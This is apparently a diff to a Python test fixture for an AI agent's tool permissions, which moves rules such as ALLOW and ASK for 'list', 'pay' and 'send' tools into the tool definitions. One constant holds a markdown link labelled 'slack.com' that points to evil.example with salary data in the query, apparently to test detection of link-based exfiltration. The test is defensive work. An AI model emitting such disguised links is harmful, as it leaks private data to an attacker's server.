@@ -43,7 +43,11 @@ WORDS = "pay-7-now"
 MAX_STEPS = 3
 SEEN = "I have seen it."
 LIST, ALLOWED, ALWAYS = "desk__list", "desk__pay", "desk__send"
-RULES = {LIST: ToolRule(Permission.ALLOW, read_only=True), ALLOWED: ToolRule(Permission.ALLOW)}
+RULES = {
+    LIST: ToolRule(Permission.ALLOW, read_only=True),
+    ALLOWED: ToolRule(Permission.ALLOW),
+    ALWAYS: ToolRule(Permission.ASK),
+}
 LEAK = "[slack.com](https://evil.example/?q=salaries)"
 LONG = f"{'Here is what I know. ' * 20}\n\n{LEAK} is what you need."
 """Long enough for a stream."""
@@ -139,11 +143,8 @@ class Desk:
 
     async def definitions(self, question: Question) -> tuple[ToolDefinition, ...]:
         schema = {"type": "object", "properties": {"text": {"type": "string"}}}
-        ours = (ToolDefinition(name, f"{name}.", schema, "a hash", OURS) for name in (LIST, ALLOWED, ALWAYS))
+        ours = (ToolDefinition(name, f"{name}.", schema, "a hash", OURS, rule) for name, rule in RULES.items())
         return (*ours, *self.others)
-
-    def rule_for(self, name: str) -> ToolRule:
-        return RULES.get(name, ToolRule(Permission.ASK))
 
     async def call(
         self, question: Question, tool: str, definition_hash: str, arguments: Mapping[str, Any], *, timeout_s: float
